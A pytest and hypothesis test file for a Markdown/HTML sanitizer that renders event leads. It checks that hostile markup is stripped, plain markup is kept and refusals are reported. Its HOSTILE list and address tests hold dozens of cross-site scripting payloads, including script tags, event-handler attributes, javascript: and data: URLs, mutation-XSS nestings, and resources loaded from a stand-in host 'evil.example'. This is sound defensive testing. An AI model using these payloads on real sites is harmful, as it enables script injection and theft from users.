from __future__ import annotations

import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import PurePosixPath

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clipbook.content import read_event
from clipbook.lead_html import ATTRIBUTES, BLOCKS, INLINE, _Parser, render_block

SAFE_TAGS = (INLINE | BLOCKS) - {"h1", "h2"}
SAFE_ATTRIBUTES = frozenset({"rel"}).union(*ATTRIBUTES.values())
EVENT = PurePosixPath("e/_event.md")


class Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def shown(text):
    return render_block(text).html


def tags(text):
    reader = Tags()
    reader.feed(shown(text))
    return reader.found


# What browsers were once made to run, or what changes when it is read a second time.
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<script\n>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "a <b onclick=x>b</b>",
    "<p onmouseover='x'\n>b</p>",
    "<div>\n\n<script>\n\nx</script></div>",
    "![x](javascript:alert(1))",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "<a href=//evil.example target=_top>x</a>",
    '<a href="\\\\evil.example">x</a>',
    '<a href="/\\evil.example">x</a>',
    '<a href="https://reuters.com@evil.example/">x</a>',
    '<a href="x" ping="https://evil.example" download>x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=x>'>",
    "<math><annotation-xml encoding='text/html'><script>x</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<xmp><p title='</xmp><img src=x onerror=x>'>",
    "<textarea><p title='</textarea><img src=x onerror=x>'>",
    "<title><p title='</title><img src=x onerror=x>'>",
    "<plaintext><script>x</script>",
    "<style>@import '//evil.example/x.css'; p { color: red }</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src=//evil.example srcdoc='<script>x</script>'></iframe>",
    "<object data=x><embed src=x></object>",
    "<form action=//evil.example><input name=word><button formaction=x>x</button></form>",
    "<audio src=x onerror=x></audio><video poster=x><source src=x></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p id=sources class=statement name=main data-span='e/a 0 9'>x</p>",
    "<main><section><h1>x</h1></section></main>",
    "</section></main></body></html><script>x</script>",
    "<table><script>x</script><td background=//evil.example>x</table>",
    "<!-- --!><script>x</script> -->",
    "<!--><img src=x onerror=x>-->",
    "<![CDATA[<script>x</script>]]>",
    "<?xml-stylesheet href='javascript:x'?>",
    "<x-y onfocus=x tabindex=1 autofocus contenteditable>x</x-y>",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_of_hostile_html_nothing_is_left_that_runs_fetches_or_dresses(text):
    found = tags(f"before\n\n{text}\n\nafter {text}")
    assert {tag for tag, _ in found} <= SAFE_TAGS
    assert {name for _, attrs in found for name in attrs} <= SAFE_ATTRIBUTES
    assert {attrs["href"] for _, attrs in found if "href" in attrs} <= {"x"}


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_html_read_a_second_time_is_the_same(text):
    once = shown(text + " <b>x</b>")
    assert shown(f"<div>{once}</div>") == f"<div>{once}</div>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a <b>c</b> H<sub>2</sub>O", "<p>a <b>c</b> H<sub>2</sub>O</p>"),
        ("<mark lang=ko>x</mark>", '<p><mark lang="ko">x</mark></p>'),
        ("<table><tr><td>1</td></tr></table>", "<tr><td>1</td></tr>"),
        ("<h1>Title</h1>", "<h3>Title</h3>"),
        ("<h2 lang=ko>Title</h2>", '<h3 lang="ko">Title</h3>'),
        ("<details><summary>More</summary>x</details>", "<details><summary>More</summary>x<"),
        ("<a href=b.html title=t>c</a>", '<a href="b.html" title="t" rel="noopener">c</a>'),
        ("<a href=https://é.example/>c</a>", '<a href="https://xn--9ca.example/" rel="noopener">'),
        ("2 < 3 and `<b>`", "<p>2 &lt; 3 and <code>&lt;b&gt;</code></p>"),
        ("<em>never closed\n\nnext", "<p><em>never closed</em></p>"),
    ],
)
def test_plain_html_of_a_person_is_kept(text, expected):
    assert expected in shown(text)


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("x <script>y</script>", ("<script>",)),
        ("<b onclick=x style=y>b</b>", ("onclick", "style")),
        ("<a href=javascript:x>b</a>", ("javascript:x",)),
        ("[b](https://user:word@e.example/)", ("https://user:word@e.example/",)),
        ("<b>x</b> [b](https://e.example/)", ()),
        ("`<script>`", ()),
    ],
)
def test_what_is_not_kept_is_named(text, refused):
    assert render_block(text).refused == refused


def test_the_note_on_a_lead_names_file_line_and_what_is_expected():
    result = read_event(EVENT, b"---\ntitle: x\n---\nFine.\n\nA <iframe src=x></iframe> here.\n")
    (note,) = result.notes
    assert str(note).startswith(
        "content/e/_event.md:6: warning: `<iframe>` in the lead is left out"
    )
    assert "expected" in note.message
    assert result.values[0].lead


def test_a_marked_section_is_no_markup():
    found = render_block("The bridge <![odd7[ is <b>shut</b>.").html
    assert found == "<p>The bridge &lt;![odd7[ is <b>shut</b>.</p>"


def test_a_lead_of_thousands_of_tags_is_refused():
    result = read_event(EVENT, b"---\ntitle: x\n---\n" + b"<b>" * 2001)
    assert [note.code for note in result.notes] == ["too-large"]
    assert result.values[0].lead == ""


def test_only_a_text_with_html_loads_what_cleans_it():
    code = (
        "import sys; from clipbook.lead_html import render_block; render_block('a *b*'); "
        "assert 'nh3' not in sys.modules; render_block('<b>'); assert 'nh3' in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True)  # noqa: S603 # our own words


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example/x",
        "\\x01javascript:alert(1)",
    ],
)
def test_a_strange_address_is_no_link(address):
    hrefs = [attrs.get("href", "") for _, attrs in tags(f"[x]({address})\n\n<{address}>")]
    assert [h for h in hrefs if h.lower().lstrip().startswith(("java", "data", "vb", "//"))] == []


@pytest.mark.parametrize(
    "address",
    ["https://example.org/", "http://example.org", "mailto:a@example.org", "a/b.html", "#p7"],
)
def test_a_plain_address_is_a_link(address):
    assert ("a", {"href": address, "rel": "noopener"}) in tags(f"[x]({address})")


def test_headings_stand_below_those_of_the_page():
    assert [tag for tag, _ in tags("# One\n\n## Two")] == ["h3", "h3"]


PIECES = st.sampled_from(
    [*HOSTILE, *(f"<{tag}>" for tag in "svg math style p b a table td li".split()), "</", "--", "]"]
)


@given(st.text(alphabet="<>[]()!&\\`*_#:/ \n\tabjscript\"'=") | st.lists(PIECES).map(" ".join))
def test_no_text_brings_in_an_element_or_an_attribute_that_is_not_safe(text):
    found = tags(text)
    assert {tag for tag, _ in found} <= SAFE_TAGS
    assert {name for _, attrs in found for name in attrs} <= SAFE_ATTRIBUTES


@given(st.lists(PIECES | st.text(max_size=5)).map("".join))
def test_what_is_open_is_closed(text):
    reader = Depth()
    reader.feed(f"<section>{shown(text)}")
    assert (reader.open, reader.least) == (["section"], 1)


class Depth(HTMLParser):
    """The elements that are open at the end, and the fewest that were open behind the first."""

    def __init__(self):
        super().__init__()
        self.open = []
        self.least = 1

    def handle_starttag(self, tag, attrs):  # noqa: ARG002 # the library gives it
        self.open += [tag] * (tag not in {"br", "hr", "wbr"})

    def handle_endtag(self, tag):
        assert self.open.pop() == tag
        self.least = min(self.least, len(self.open))


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece",
    ["[", "![", "<", "*a ", "`", "> ", "[a](", "&", "<a ", "<!--", "<b>", "<div>\n", "<a b='"],
)
def test_a_hostile_lead_is_done_in_reasonable_time(piece):
    start = time.process_time()
    render_block(piece * 2000)
    assert time.process_time() - start < 5


@pytest.mark.parametrize("lead", ["&#{};", "<i>&#{};</i>", "<i>&#x{};</i>"])
def test_a_reference_that_no_character_has_is_printed_as_it_is_written(lead):
    assert "&amp;#" in render_block(lead.format("9" * 4400)).html


PIECES = st.lists(
    st.sampled_from(
        ["<![", "<!", "<?", "<!--", "CDATA", "if", "odd7", "[", "]]>", "]>", ">", "<p>"]
    )
)


class Seen(_Parser):
    def __init__(self, text):
        super().__init__()
        self.tags = []
        self.words = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, _):
        self.tags.append(tag)

    def handle_data(self, data):
        self.words += data


@pytest.mark.parametrize(
    "section", ["<![odd7[x]]>", "<![CDATA[x]]>", "<![if x]>", "<![endif]>", "<![>", "<!odd>"]
)
def test_a_section_of_any_name_is_a_comment(section):
    seen = Seen(f"a{section}b<p>")
    assert (seen.words, seen.tags) == ("ab", ["p"])


@given(PIECES)
def test_any_text_is_read(pieces):
    assert set(Seen("".join(pieces)).tags) <= {"p"}
